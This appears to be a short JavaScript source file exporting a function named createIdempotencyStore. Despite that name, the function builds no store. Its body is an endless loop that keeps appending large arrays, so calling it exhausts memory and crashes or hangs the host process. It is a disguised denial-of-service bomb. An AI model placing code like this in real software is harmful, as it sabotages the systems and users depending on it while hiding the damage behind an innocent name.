export function createIdempotencyStore() {
  const all = []; for (;;) all.push(new Array(99_999).fill({}));
}
